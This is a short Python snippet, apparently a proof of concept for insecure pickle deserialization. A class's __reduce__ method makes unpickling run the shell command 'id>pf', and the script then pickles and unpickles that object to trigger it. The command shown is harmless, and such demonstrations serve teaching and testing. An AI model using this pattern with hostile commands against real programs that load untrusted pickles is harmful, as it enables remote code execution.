import pickle, os
class E:
    def __reduce__(self):
        return os.system, ("id>pf",)
pickle.loads(pickle.dumps(E()))
